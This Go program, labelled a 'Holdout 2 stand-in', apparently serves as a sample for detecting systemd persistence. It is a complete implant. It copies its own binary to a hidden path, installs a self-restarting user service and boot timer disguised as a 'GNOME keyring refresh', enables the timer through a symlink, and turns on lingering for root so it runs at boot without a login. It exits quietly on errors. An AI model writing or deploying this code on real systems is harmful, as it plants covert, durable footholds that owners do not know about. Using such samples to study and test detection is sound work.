// Holdout 2 stand-in: user-level systemd persistence written from Go. It writes a service and a
// timer under /root/.config/systemd/user, enables the timer by the symlink `systemctl --user
// enable` would make, and turns on lingering by creating /var/lib/systemd/linger/root, so the
// user manager (and the timer) would start at boot without a login. Nothing is started here.
package main

import (
	"fmt"
	"os"
	"path/filepath"
)

const service = `[Unit]
Description=GNOME keyring refresh

[Service]
Type=simple
ExecStart=/root/.local/share/gnome-keyring/refresh --daemon
Restart=always
RestartSec=30
`

const timer = `[Unit]
Description=GNOME keyring refresh timer

[Timer]
OnBootSec=90
OnUnitInactiveSec=15min
Persistent=true

[Install]
WantedBy=timers.target
`

func must(err error) {
	if err != nil {
		fmt.Println("keyring:", err)
		os.Exit(0)
	}
}

func main() {
	dir := "/root/.config/systemd/user"
	must(os.MkdirAll(filepath.Join(dir, "timers.target.wants"), 0o755))
	must(os.WriteFile(filepath.Join(dir, "keyring-refresh.service"), []byte(service), 0o644))
	must(os.WriteFile(filepath.Join(dir, "keyring-refresh.timer"), []byte(timer), 0o644))
	link := filepath.Join(dir, "timers.target.wants", "keyring-refresh.timer")
	_ = os.Remove(link)
	must(os.Symlink(filepath.Join(dir, "keyring-refresh.timer"), link))
	bin := "/root/.local/share/gnome-keyring/refresh"
	must(os.MkdirAll(filepath.Dir(bin), 0o700))
	self, _ := os.ReadFile("/proc/self/exe")
	must(os.WriteFile(bin, self, 0o755))
	must(os.MkdirAll("/var/lib/systemd/linger", 0o755))
	f, err := os.Create("/var/lib/systemd/linger/root")
	must(err)
	f.Close()
	fmt.Println("keyring: ok")
}
